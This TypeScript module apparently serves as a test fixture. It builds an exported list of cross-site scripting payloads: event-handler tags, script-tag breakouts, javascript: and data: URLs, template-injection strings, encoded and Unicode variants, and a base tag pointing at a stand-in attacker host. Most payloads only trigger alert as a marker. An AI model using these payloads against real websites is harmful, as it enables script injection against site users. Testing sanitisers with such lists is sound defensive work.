/** Ways to make a browser run what a customer wrote. Each calls `alert`, which a page that ran one would be seen to do. */
const RUN = ['alert(1)', 'alert`1`', 'window["al"+"ert"](1)', 'top.alert(1)', 'confirm(1)', 'prompt(1)'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'select autofocus',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onstart', 'onanimationstart', 'onpageshow'];
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '`',
  '\\"',
  '\u0000',
  '</script>',
  '<!--',
  '<![CDATA[',
  '</p>',
  '/*',
  '\r\n',
  '\u2028',
];

const handlers = TAGS.flatMap((tag, i) => EVENTS.map((event, j) => `<${tag} ${event}=${RUN[(i + j) % RUN.length]}>`));
const scripts = BREAKS.flatMap((broken, i) => [
  `${broken}<script>${RUN[i % RUN.length]}</script>`,
  `${broken}<ScRiPt >${RUN[i % RUN.length]}</sCrIpT>`,
  `${broken}<script src=data:text/javascript,${RUN[0]}></script>`,
]);
const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'data:text/html,<script>',
  'vbscript:',
  ' javascript:',
].flatMap((scheme) => [
  `${scheme}alert(1)`,
  `[click](${scheme}alert(1))`,
  `<a href="${scheme}alert(1)">x</a>`,
  `<form action="${scheme}alert(1)"><button>x</button></form>`,
]);
const others = [
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<style>@import "data:text/css,*{background:red}";</style>',
  '<link rel=stylesheet href=data:text/css,*{display:none}>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '$t(nav.signOut){{- alert(1)}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '\u202e<script>alert(1)</script>',
  '"style="animation-name:x" onanimationstart="alert(1)',
  '__proto__',
  'constructor',
];

export const PAYLOADS: readonly string[] = [...handlers, ...scripts, ...addresses, ...others];
